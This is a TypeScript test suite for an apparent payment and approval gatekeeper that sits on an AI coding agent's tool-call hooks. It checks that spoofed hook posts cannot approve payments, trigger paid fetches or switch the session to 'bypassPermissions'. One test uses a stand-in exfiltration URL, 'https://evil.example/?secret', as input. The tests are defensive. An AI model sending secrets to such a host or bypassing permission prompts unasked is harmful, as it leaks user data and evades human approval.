import { describe, expect, it } from 'vitest';
import { demandV2 } from '../payer/sellers.fixture.ts';
import { ok, turns } from './exchange.fixture.ts';
import { createGovernor } from './governor.ts';
import { createPayingWorld, demandsV2, receipt } from './paying.fixture.ts';
import { createRecallWorld } from './recall.fixture.ts';
import { createWorld, refusalOf, startedBy, withGateway } from './world.fixture.ts';

/** What a program posts that knows the session and is not its client: the third word of `send` is false. */
const URL = 'https://shop.example/data';
const call = (id: string, more: object = {}) => ({ tool_name: 'Bash', tool_use_id: id, tool_input: { command: `curl -X POST ${URL}` }, ...more });
const before = (id: string, more: object = {}) => ({ hook_event_name: 'PreToolUse', ...call(id), permission_mode: 'default', ...more });
const CALLS = ['t0', 't1', 't2'];
const settled = async () => {
  for (let round = 0; round < 4; round += 1) await turns(40).then(() => new Promise((resolve) => setTimeout(resolve, 2)));
};

describe('a call that the client did not tell of', () => {
  const market = () => {
    const one = createPayingWorld({ policy: { approveAbove: '$0.005' }, prices: [{ endpoint: 'shop.example/*', price: 'x402' }] });
    withGateway(one.world, Object.fromEntries(CALLS.map((id, port) => [port, id])));
    const governor = createGovernor(one.world.parts, { read: () => null }, { behind: async () => null }, one.exchange);
    const buy = async (toolUseId: string) => {
      const asked = one.asked.length;
      const exchanged = governor.exchange(startedBy('s1', CALLS.indexOf(toolUseId)), { method: 'POST', url: URL, fields: {}, body: null }, new AbortController().signal);
      await turns();
      one.asked[asked]!.answer(demandsV2(demandV2()));
      await settled();
      one.asked[asked + 1]?.answer(ok('x', receipt()));
      const came = await exchanged;
      return 'refusal' in came ? came.refusal.code : came.answer.status;
    };
    return { ...one, buy };
  };

  it('asks nobody: where the client would ask its person it is refused, and pays nothing', async () => {
    const { world, buy, payer } = market();
    await world.send(before('t0'), false);
    expect(await buy('t0')).toBe('APPROVAL_REQUIRED');
    const reply = (await world.send(before('t1'), false))!;
    expect(refusalOf(reply)).toMatchObject({ code: 'APPROVAL_REQUIRED', sentence: expect.stringContaining('a person can allow it in a terminal with `pag0 approve ask1`') as string });
    expect(world.live.running.get('t1')).toBeUndefined();
    expect(await buy('t1')).toBe('APPROVAL_REQUIRED');
    expect(payer.signed).toBe(0);
    // The client's own word for the same is a question.
    expect((await world.send(before('t2')))?.verdict).toMatchObject({ verdict: 'ask' });
    expect(await buy('t2')).toBe(200);
  });

  it('is refused as well where the price table asks for the yes, and sets nothing aside', async () => {
    const world = createWorld({ policy: { approveAbove: '$0.25' }, prices: [{ endpoint: 'shop.example/*', price: '$0.30' }] });
    expect(refusalOf((await world.send(before('t1'), false))!)).toMatchObject({ code: 'APPROVAL_REQUIRED', details: { price: '300000' } });
    expect((await world.parts.ledger.balances(['session:s1']))[0]).toMatchObject({ reserved: 0n, posted: 0n });
    expect((await world.send(before('t2')))?.verdict).toMatchObject({ verdict: 'ask' });
  });

  it('is not handed the command of one that its person is being asked about, though it names that one', async () => {
    const { world, buy } = market();
    await world.send(before('t0'));
    await buy('t0');
    expect((await world.send(before('t1')))?.verdict).toMatchObject({ verdict: 'ask' });
    const again = (await world.send(before('t1'), false))!;
    expect(refusalOf(again)).toMatchObject({ code: 'APPROVAL_REQUIRED' });
    expect((await world.send(before('t1')))?.verdict).toMatchObject({ verdict: 'ask' });
  });

  it('is decided like any other where nobody has to be asked, without a look at who tells of it', async () => {
    const world = createWorld({ prices: [{ endpoint: 'shop.example/*', price: '$0.02' }] });
    expect((await world.send(before('t1'), false))?.verdict).toEqual({ verdict: 'pass' });
  });
});

it('a sandbox without domains is opened by the client’s own word that nobody is asked, and by nobody else’s', async () => {
  const world = createWorld();
  const said = async (mode: string, isClient: boolean) => (await world.send(before(mode, { tool_use_id: `${mode}${isClient}`, permission_mode: mode, tool_input: { command: 'true' } }), isClient), world.live.permissionMode);
  expect(await said('default', false)).toBe('default');
  expect(await said('bypassPermissions', false)).toBeNull();
  expect(await said('bypassPermissions', true)).toBe('bypassPermissions');
  expect(await said('default', true)).toBe('default');
});

describe('a WebFetch that asks to be paid', () => {
  const fetched = (id: string, url: string) => ({ tool_name: 'WebFetch', tool_use_id: id, tool_input: { url, prompt: 'read' } });
  const demanded = { tool_response: { code: 402, result: '', bytes: 0, codeText: '', durationMs: 1, url: 'u' } };
  const stage = () => {
    const world = createRecallWorld();
    world.parts.wallet = () => '0xabc';
    return world;
  };

  it('is fetched for no call that never was, was another, or was told of before', async () => {
    const world = stage();
    const post = (more: object) => world.send({ hook_event_name: 'PostToolUse', ...demanded, ...more });
    expect(await post(fetched('never', 'https://evil.example/?secret'))).toEqual({});
    await world.send({ hook_event_name: 'PreToolUse', ...fetched('t1', 'https://shop.example/a') });
    expect(await post(fetched('t1', 'https://evil.example/?secret'))).toEqual({});
    await world.send({ hook_event_name: 'PreToolUse', ...fetched('t0', 'https://evil.example/?secret'), tool_name: 'mcp__free__note' });
    expect(await post(fetched('t0', 'https://evil.example/?secret'))).toEqual({});
    expect(world.asked).toEqual([]);
    await world.send({ hook_event_name: 'PreToolUse', ...fetched('t2', 'https://shop.example/b') });
    const told = post(fetched('t2', 'https://shop.example/b'));
    await settled();
    world.asked[0]!.answer(ok('the page', { 'content-type': 'text/plain' }));
    expect((await told)?.context).toContain('the page');
    expect(await post(fetched('t2', 'https://shop.example/b'))).toEqual({});
    expect(world.asked).toHaveLength(1);
  });

  it('counts as agreed to only when the client that asked its person says that it has run', async () => {
    for (const isClient of [false, true]) {
      const world = createWorld();
      const seen: unknown[] = [];
      world.parts.recall = {
        before: async () => ({ outcome: 'runs' }),
        after: async () => {},
        failed: async (_live, _agent, _call, _error, approvals) => (seen.push(approvals), null),
        end: () => {},
        abandon: () => {},
      };
      world.parts.approvals.ask({ session: 's1', request: 'r', network: 'n', asset: '0xa', payTo: '0xb', amount: 300_000n }, { agent: 'main', label: 'shop.example/data', code: 'APPROVAL_REQUIRED', why: 'costs $0.30' });
      await world.send({ hook_event_name: 'PreToolUse', ...fetched('t1', URL), permission_mode: 'default' });
      await world.send({ hook_event_name: 'PostToolUse', ...fetched('t1', URL), ...demanded }, isClient);
      expect(seen).toEqual([isClient ? ['ask1'] : []]);
    }
  });
});
